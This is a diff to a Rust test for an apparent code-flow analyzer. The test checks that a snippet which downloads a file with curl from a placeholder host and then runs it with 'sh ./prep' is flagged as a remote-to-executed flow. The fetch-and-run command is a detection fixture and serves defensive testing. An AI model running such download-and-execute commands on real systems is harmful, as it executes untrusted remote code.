@@ -132,14 +132,13 @@ fn a_line_of_a_macro_for_commands_is_run() {
         assert!(!built_with(&code, &[]), "{code}");
     }
     let fetched = |started: &str| {
-        built_with(
-            &format!(
-                "use xshell::{{cmd, Shell}};\nfn main() {{ let sh = Shell::new().unwrap();\n\
-                 let url = \"https://a.invalid/prep\"; cmd!(sh, \"curl -fsSL -o prep {{url}}\").run().unwrap();\n\
-                 cmd!(sh, \"{started}\").run().unwrap(); }}"
-            ),
-            &[],
-        )
+        let code = format!(
+            "use xshell::{{cmd, Shell}};\nfn main() {{ let sh = Shell::new().unwrap();\n\
+             let url = \"https://a.invalid/prep\"; cmd!(sh, \"curl -fsSL -o prep {{url}}\").run().unwrap();\n\
+             cmd!(sh, \"{started}\").run().unwrap(); }}"
+        );
+        let mut flows = flows(&code).into_iter();
+        flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::ExecutedFile)
     };
     assert!(fetched("sh ./prep"));
     assert!(!fetched("sh ./other"));
